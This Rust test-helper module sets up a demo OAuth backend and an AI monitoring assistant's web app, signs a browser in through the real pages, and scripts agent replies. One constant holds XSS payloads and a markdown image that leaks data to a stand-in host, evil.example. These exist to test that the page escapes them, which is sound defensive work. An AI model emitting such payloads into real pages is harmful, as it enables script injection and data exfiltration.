//! Helpers of the web tests: the real demo-backend with its OAuth server and internal-host
//! pre-registered as a confidential client, internal-host's web app on its own port answering
//! turns with a scripted agent (which appends real events to the real event log), and a browser
//! (reqwest with a cookie jar) that signs in through the real sign-in and consent pages.

use std::sync::{Arc, Mutex};
use std::time::Duration;

use demo_backend::http::RateLimit;
use demo_backend::oauth::{OAuthSettings, PreRegisteredClient};
use internal_host::AppState;
use internal_host::config::{ClientSecret, SignInConfig};
use internal_host::credentials::ActingUser;
use internal_host::events::{
    CallStatus, Chart, ChartPoint, ChartSeries, EventLog, ToolCallOutcome, TurnEvent, TurnStatus,
};
use internal_host::llm::ModelInfo;
use internal_host::turns::{Decision, TurnContext, TurnFuture, Turns};
use reqwest::StatusCode;
use reqwest::cookie::{CookieStore, Jar};
use serde_json::json;
use sha2::{Digest, Sha256};
use sqlx::PgPool;
use test_harness::TestDatabase;
use tokio::sync::oneshot;
use tokio_util::sync::CancellationToken;
use uuid::Uuid;

use crate::support::{host_config, seeded_database};

pub const PASSWORD: &str = "a long password for web tests";
const CLIENT_SECRET: &str = "internal-host client secret for tests";

/// Both servers, and what the scripted agent saw.
pub struct WebApp {
    pub base: String,
    pub issuer: String,
    pub database: TestDatabase,
    pub state: AppState,
    pub seen: Arc<Mutex<Vec<(ActingUser, String)>>>,
    _backend: oneshot::Sender<()>,
    _host: oneshot::Sender<()>,
}

/// A browser: a client with its own cookie jar, following redirects.
pub struct Browser {
    pub client: reqwest::Client,
    pub jar: Arc<Jar>,
    pub base: String,
    /// The session's CSRF token, read from the page.
    pub csrf: String,
}

/// An agent that follows a script chosen by the question's words, appending real events.
pub struct Scripted {
    database: PgPool,
    seen: Arc<Mutex<Vec<(ActingUser, String)>>>,
}

/// demo-backend with its OAuth server on `database` (internal-host pre-registered as a confidential
/// client; the host reads the server's metadata at start, as in production) and internal-host's
/// web app calling internal-mcp at `internal_mcp_url`, each on a port of its own; `prepare` gives
/// the host its turns. Returns the host's state, its base URL, the issuer, and the senders that
/// stop both servers (drop them).
pub async fn serve_product_and_host(
    database: &TestDatabase,
    internal_mcp_url: &str,
    prepare: impl FnOnce(AppState) -> AppState,
) -> (AppState, String, String, [oneshot::Sender<()>; 2]) {
    let backend_listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let issuer = format!("http://{}", backend_listener.local_addr().unwrap());
    let host_listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let base = format!("http://{}", host_listener.local_addr().unwrap());
    let settings = OAuthSettings {
        clients: vec![PreRegisteredClient {
            client_id: "internal-host".into(),
            client_name: "Demo Monitoring assistant".into(),
            client_secret_sha256: Sha256::digest(CLIENT_SECRET).into(),
            redirect_uris: vec![format!("{base}/auth/callback")],
            grant_types: vec!["authorization_code".into(), "refresh_token".into()],
            resources_served: vec![],
        }],
        ..OAuthSettings::new(&issuer).unwrap()
    };
    let limit = RateLimit {
        per_minute: 100_000,
        burst: 10_000,
    };
    let backend =
        demo_backend::http::AppState::new(database.pool.clone(), limit).with_oauth(settings);
    let (backend_shutdown, backend_stopped) = oneshot::channel::<()>();
    tokio::spawn(demo_backend::http::serve(
        backend_listener,
        backend,
        async {
            let _ = backend_stopped.await;
        },
    ));

    let mut config = host_config(database, internal_mcp_url);
    config.web.public_url = base.clone();
    config.web.sign_in = Some(SignInConfig {
        issuer: issuer.clone(),
        client_id: "internal-host".into(),
        client_secret: ClientSecret::new(CLIENT_SECRET.into()),
        discovery_timeout: Duration::from_secs(5),
    });
    let state = prepare(AppState::connect(config).await.expect("the host starts"));
    let (host_shutdown, host_stopped) = oneshot::channel::<()>();
    let serving = state.clone();
    tokio::spawn(async move {
        let _ = internal_host::serve(host_listener, serving, async {
            let _ = host_stopped.await;
        })
        .await;
    });
    (state, base, issuer, [backend_shutdown, host_shutdown])
}

impl WebApp {
    pub async fn start() -> Self {
        let database = seeded_database().await;
        let seen = Arc::new(Mutex::new(Vec::new()));
        let scripted_seen = seen.clone();
        let (state, base, issuer, [backend_shutdown, host_shutdown]) =
            serve_product_and_host(&database, "http://127.0.0.1:1/mcp", |state| {
                let host_database = state.database().clone();
                state.with_turns(Arc::new(Scripted {
                    database: host_database,
                    seen: scripted_seen,
                }))
            })
            .await;
        Self {
            base,
            issuer,
            database,
            state,
            seen,
            _backend: backend_shutdown,
            _host: host_shutdown,
        }
    }

    /// The product's database (the seeded one).
    pub fn product(&self) -> &PgPool {
        &self.database.pool
    }

    /// The host's database, as its own role.
    pub fn host(&self) -> &PgPool {
        self.state.database()
    }

    /// Gives the seeded user `handle` of `slug` the test password; returns their e-mail.
    pub async fn with_password(&self, slug: &str, handle: &str) -> String {
        let email: String = sqlx::query_scalar(
            "SELECT u.email FROM users u JOIN organizations o ON o.id = u.organization_id
              WHERE o.slug = $1 AND u.email LIKE $2 || '@%'",
        )
        .bind(slug)
        .bind(handle)
        .fetch_one(self.product())
        .await
        .unwrap();
        demo_backend::domain::passwords::set(self.product(), slug, &email, PASSWORD)
            .await
            .unwrap();
        email
    }

    /// A fresh browser, signed out.
    pub fn browser(&self) -> Browser {
        let jar = Arc::new(Jar::default());
        let client = reqwest::Client::builder()
            .cookie_provider(jar.clone())
            .build()
            .unwrap();
        Browser {
            client,
            jar,
            base: self.base.clone(),
            csrf: String::new(),
        }
    }

    /// A browser signed in as `handle` of `slug`, through the real sign-in and consent pages.
    pub async fn signed_in(&self, slug: &str, handle: &str) -> Browser {
        let email = self.with_password(slug, handle).await;
        let mut browser = self.browser();
        let started = std::time::Instant::now();
        // The host sends the browser to the product's sign-in page.
        let page = browser.get("/auth/sign-in").await;
        assert_eq!(page.status(), StatusCode::OK);
        assert!(
            page.url().as_str().starts_with(&self.issuer),
            "{}",
            page.url()
        );
        let html = page.text().await.unwrap();
        let consent = browser
            .client
            .post(format!("{}/oauth/sign-in", self.issuer))
            .form(&[
                ("request", hidden(&html, "request").as_str()),
                ("csrf", hidden(&html, "csrf").as_str()),
                ("organization", slug),
                ("email", email.as_str()),
                ("password", PASSWORD),
            ])
            .send()
            .await
            .unwrap();
        assert_eq!(consent.status(), StatusCode::OK);
        let html = consent.text().await.unwrap();
        assert!(html.contains("Demo Monitoring assistant"), "{html}");
        // Allowing sends the browser back to the host's callback, then to its front page.
        let landed = browser
            .client
            .post(format!("{}/oauth/consent", self.issuer))
            .form(&[
                ("request", hidden(&html, "request").as_str()),
                ("csrf", hidden(&html, "csrf").as_str()),
                ("scope", "read"),
                ("decision", "allow"),
            ])
            .send()
            .await
            .unwrap();
        assert_eq!(landed.status(), StatusCode::OK);
        assert_eq!(landed.url().as_str(), format!("{}/", self.base));
        let html = landed.text().await.unwrap();
        assert!(html.contains("Sign out"), "{html}");
        browser.csrf = hidden(&html, "csrf");
        println!(
            "sign-in of {handle} through the OAuth pages took {} ms (debug build, Argon2id included)",
            started.elapsed().as_millis()
        );
        browser
    }

    /// Waits until the turn is no longer running (the scripted agent is quick; this only
    /// guards against a hang).
    pub async fn settled(&self, turn_id: Uuid) -> String {
        for _ in 0..200 {
            // The task's own end (its last write, then leaving the registry) comes after the
            // agent's: wait for both, or a test would race the orchestrator.
            let task_done = !self.state.orchestrator().is_running_here(turn_id);
            let status: String = sqlx::query_scalar("SELECT status FROM turns WHERE id = $1")
                .bind(turn_id)
                .fetch_one(self.host())
                .await
                .unwrap();
            if task_done && status != "running" {
                return status;
            }
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
        panic!("turn {turn_id} never settled");
    }

    /// The only turn of conversation `conversation_id`, or the newest.
    pub async fn last_turn(&self, conversation_id: Uuid) -> Uuid {
        sqlx::query_scalar(
            "SELECT id FROM turns WHERE conversation_id = $1 ORDER BY created_at DESC LIMIT 1",
        )
        .bind(conversation_id)
        .fetch_one(self.host())
        .await
        .unwrap()
    }
}

impl Browser {
    pub async fn get(&self, path: &str) -> reqwest::Response {
        self.client
            .get(format!("{}{path}", self.base))
            .send()
            .await
            .unwrap()
    }

    pub async fn post(&self, path: &str, form: &[(&str, &str)]) -> reqwest::Response {
        self.client
            .post(format!("{}{path}", self.base))
            .form(form)
            .send()
            .await
            .unwrap()
    }

    /// Asks `question` in a new conversation; returns the conversation's id.
    pub async fn ask_new(&self, question: &str) -> Uuid {
        let response = self
            .post(
                "/conversations",
                &[("csrf", self.csrf.as_str()), ("question", question)],
            )
            .await;
        assert_eq!(response.status(), StatusCode::OK);
        let path = response.url().path().to_owned();
        let id = path
            .strip_prefix("/conversations/")
            .unwrap_or_else(|| panic!("landed on {path}"));
        Uuid::parse_str(id).unwrap()
    }

    /// The session cookie's value.
    pub fn session_cookie(&self) -> Option<String> {
        let url = self.base.parse().unwrap();
        let header = self.jar.cookies(&url)?;
        header
            .to_str()
            .unwrap()
            .split(';')
            .filter_map(|pair| pair.trim().split_once('='))
            .find(|(name, _)| *name == "internal_host_session")
            .map(|(_, value)| value.to_owned())
    }
}

/// The value of the hidden input `name` of a page.
pub fn hidden(html: &str, name: &str) -> String {
    let marker = format!("name=\"{name}\" value=\"");
    let start = html
        .find(&marker)
        .unwrap_or_else(|| panic!("no hidden {name} in {html}"))
        + marker.len();
    html[start..][..html[start..].find('"').unwrap()].to_owned()
}

/// Markdown and a trace meant to break the page.
pub const HOSTILE_TEXT: &str = "Here is <script>alert('answer')</script> and \
    [a link](javascript:alert(1)) and <img src=x onerror=alert(2)> and ![pixel](https://evil.example/p?leak=1) \
    and **bold** &amp; done.";

impl Turns for Scripted {
    fn model(&self) -> ModelInfo {
        ModelInfo {
            provider: "scripted".into(),
            name: "scripted-model".into(),
            context_window: 8192,
            local: true,
        }
    }

    fn run_turn(
        &self,
        turn: TurnContext,
        events: EventLog,
        cancel: CancellationToken,
    ) -> TurnFuture {
        let database = self.database.clone();
        self.seen
            .lock()
            .unwrap()
            .push((turn.user.clone(), turn.question.clone()));
        Box::pin(async move {
            let (conversation, id) = (turn.conversation_id, turn.turn_id);
            let started = TurnEvent::TurnStarted {
                question: turn.question.clone(),
                model: "scripted-model (local)".into(),
            };
            events.append(conversation, id, &started).await?;
            if turn.question.contains("wait") {
                let text = TurnEvent::Text {
                    text: "Looking…".into(),
                };
                events.append(conversation, id, &text).await?;
                // Left to the orchestrator to end: it must end the turn stopped.
                cancel.cancelled().await;
                return Ok(TurnStatus::Stopped);
            }
            let mut tool_calls = 0;
            if turn.question.contains("hostile") {
                tool_calls = 2;
                for (call_id, tool, status) in [
                    ("call-1", "run_select", CallStatus::Ok),
                    ("call-2", "get_metric", CallStatus::ToolError),
                ] {
                    events
                        .append(
                            conversation,
                            id,
                            &TurnEvent::ToolCallStarted {
                                call_id: call_id.into(),
                                server: "internal-mcp".into(),
                                tool: tool.into(),
                                arguments: json!({"sql": "SELECT '<script>x</script>'"}),
                            },
                        )
                        .await?;
                    events
                        .append(
                            conversation,
                            id,
                            &TurnEvent::ToolCallFinished {
                                call_id: call_id.into(),
                                outcome: outcome(status),
                            },
                        )
                        .await?;
                }
                for piece in HOSTILE_TEXT.split_inclusive(' ') {
                    let text = TurnEvent::Text { text: piece.into() };
                    events.append(conversation, id, &text).await?;
                }
            } else {
                for piece in ["The answer ", "to your question ", "is **42**."] {
                    let text = TurnEvent::Text { text: piece.into() };
                    events.append(conversation, id, &text).await?;
                }
            }
            sqlx::query(
                "UPDATE turns SET status = 'completed', model_calls = 1, tool_calls = $2,
                        finished_at = now() WHERE id = $1",
            )
            .bind(id)
            .bind(tool_calls as i32)
            .execute(&database)
            .await?;
            let finished = TurnEvent::TurnFinished {
                status: TurnStatus::Completed,
                model_calls: 1,
                tool_calls,
                input_tokens: 100,
                output_tokens: 20,
                elapsed_ms: 5,
            };
            events.append(conversation, id, &finished).await?;
            Ok(TurnStatus::Completed)
        })
    }

    fn decide(
        &self,
        turn: TurnContext,
        approval_id: Uuid,
        decision: Decision,
        events: EventLog,
        _cancel: CancellationToken,
    ) -> TurnFuture {
        let database = self.database.clone();
        self.seen
            .lock()
            .unwrap()
            .push((turn.user.clone(), format!("{decision:?} {approval_id}")));
        Box::pin(async move {
            let status = match decision {
                Decision::Confirm => "confirmed",
                Decision::Reject => "rejected",
            };
            sqlx::query(
                "UPDATE approvals SET status = $2, decided_by = $3, decided_at = now() WHERE id = $1",
            )
            .bind(approval_id)
            .bind(status)
            .bind(turn.user.user_id)
            .execute(&database)
            .await?;
            sqlx::query("UPDATE turns SET status = 'completed', finished_at = now() WHERE id = $1")
                .bind(turn.turn_id)
                .execute(&database)
                .await?;
            let decided = TurnEvent::ApprovalDecided {
                approval_id,
                decision: status.into(),
                decided_by: Some(turn.user.user_id),
            };
            events
                .append(turn.conversation_id, turn.turn_id, &decided)
                .await?;
            Ok(TurnStatus::Completed)
        })
    }
}

fn outcome(status: CallStatus) -> ToolCallOutcome {
    let at =
        |minute: i64| chrono::DateTime::from_timestamp(1_749_740_400 + minute * 60, 0).unwrap();
    ToolCallOutcome {
        status,
        text: match status {
            CallStatus::Ok => "3 rows <b>bold?</b>".into(),
            _ => "metric <i>unknown</i>".into(),
        },
        duration_ms: 12,
        truncated: status == CallStatus::Ok,
        rows: Some(3),
        bytes: 2048,
        sql: (status == CallStatus::Ok)
            .then(|| "SELECT service, count(*) FROM incidents GROUP BY 1".into()),
        chart: (status == CallStatus::Ok).then(|| Chart {
            title: "error rate".into(),
            unit: Some("%".into()),
            series: vec![ChartSeries {
                label: "checkout".into(),
                points: (0..6)
                    .map(|minute| ChartPoint {
                        at: at(minute),
                        value: (minute * minute) as f64,
                    })
                    .collect(),
            }],
        }),
    }
}
